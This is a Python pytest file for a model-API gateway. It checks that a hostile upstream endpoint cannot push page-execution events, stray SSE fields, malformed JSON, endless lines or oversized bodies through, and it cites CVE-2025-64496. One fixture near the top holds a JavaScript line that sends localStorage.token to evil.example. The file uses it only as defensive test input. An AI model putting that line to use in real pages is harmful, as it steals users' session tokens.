"""What an attached endpoint may send to do harm: commands for a page, lines and documents without end, odd values."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from aiohttp import web

from app.gateway.exchange import passing, upstream
from tests.gateway.far import DIALECTS, WAYS, Far, ask_near, begin_stream, chunk
from tests.gateway.played import Gateway

MIB = 1 << 20
TRANSLATED = pytest.mark.parametrize(("path", "more"), WAYS[1:])
EXECUTE = {"type": "execute", "data": {"code": "fetch('https://evil.example/' + localStorage.token)"}}
ODD = {
    "a command for the page": b"event: execute\ndata: " + json.dumps(EXECUTE).encode() + b"\n\n",
    "another id and a time to come back": b"id: 7\nretry: 1\n: comment\n\n",
    "a field of nobody's": b"run: evil()\n\n",
    "no choices": b'data: {"choices": [], "object": "evil"}\n\n',
}


def sends(*pieces: bytes) -> Callable[[web.Request], Any]:
    async def play(request: web.Request) -> web.StreamResponse:
        response = await begin_stream(request)
        for piece in pieces:
            await response.write(piece)
        return response

    return play


@TRANSLATED
@pytest.mark.parametrize("odd", ODD.values(), ids=ODD)
async def test_commands_in_an_endpoints_stream(
    near: Gateway, far: Far, path: str, more: dict[str, Any], odd: bytes
) -> None:
    """CVE-2025-64496: Open WebUI ran what the events of a directly connected server told it to."""
    far.play = sends(odd, chunk("Because."), odd, chunk("", "stop"), b"data: [DONE]\n\n")
    status, answer = await ask_near(near, path, more, stream=True)
    assert status == 200
    assert "Because." in answer
    assert "evil" not in answer
    assert "execute" not in answer
    assert "retry:" not in answer


@pytest.mark.slow(cases=8)
@TRANSLATED
@pytest.mark.parametrize(
    "odd",
    [
        b'data: {"choices": [{"delta": {"content": 7}}]}\n\n',
        b'data: {"choices": [{"delta": {"tool_calls": [{"index": "a"}]}}]}\n\n',
        b"data: " + b"[" * 5000 + b"\n\n",
        b'data: {"choices": 1}\n\n',
        b"data: \xff\xfe\n\n",
        b"data: not json\n\n",
    ],
)
async def test_values_that_cannot_be(near: Gateway, far: Far, path: str, more: dict[str, Any], odd: bytes) -> None:
    far.play = sends(chunk("Bec"), odd)
    status, answer = await ask_near(near, path, more, stream=True)
    assert status == 200
    assert "could not be understood" in answer


@pytest.mark.slow(cases=2)
@DIALECTS
@pytest.mark.parametrize("stream", [True, False])
async def test_a_line_without_end(near: Gateway, far: Far, path: str, more: dict[str, Any], *, stream: bool) -> None:
    far.play = sends(chunk("Bec"), b"data: ", *[b"x" * MIB] * (passing.LONGEST_LINE // MIB + 8))
    status, answer = await ask_near(near, path, more, stream=stream)
    assert status in {200, 502}
    assert "a line of more than 8 MiB" in answer[-2000:]


@pytest.mark.parametrize("status", [200, 400])
async def test_a_document_without_end(near: Gateway, far: Far, monkeypatch: pytest.MonkeyPatch, status: int) -> None:
    monkeypatch.setattr(upstream, "LARGEST_DOCUMENT", 4 * MIB)

    async def play(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(status=status, headers={"Content-Type": "application/json"})
        await response.prepare(request)
        for _ in range(64):
            await response.write(b" " * MIB)
        return response

    far.play = play
    engine_status, answer = await ask_near(near, *WAYS[0], stream=False)
    assert engine_status == 502
    assert "an answer of more than 4 MiB" in answer
